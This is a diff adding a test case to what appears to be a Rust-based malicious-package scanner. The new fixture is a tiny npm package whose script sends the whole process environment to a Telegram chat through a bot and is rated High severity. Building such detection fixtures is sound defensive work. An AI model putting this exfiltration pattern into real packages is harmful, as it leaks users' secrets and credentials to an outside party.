@@ -44,6 +44,21 @@ exports.open = (config) => net.connect(config.port, config.host);"#,
             ],
         },
         Example {
+            name: "a bot tells somebody in a messenger",
+            severity: Some(Severity::High),
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","main":"i.js","dependencies":{"telegraf":"4"}}"#,
+                ),
+                (
+                    "i.js",
+                    r#"const { Telegraf } = require("telegraf");
+new Telegraf("1:a").telegram.sendMessage(7, JSON.stringify(process.env));"#,
+                ),
+            ],
+        },
+        Example {
             name: "a child process gets the environment",
             severity: None,
             files: &[
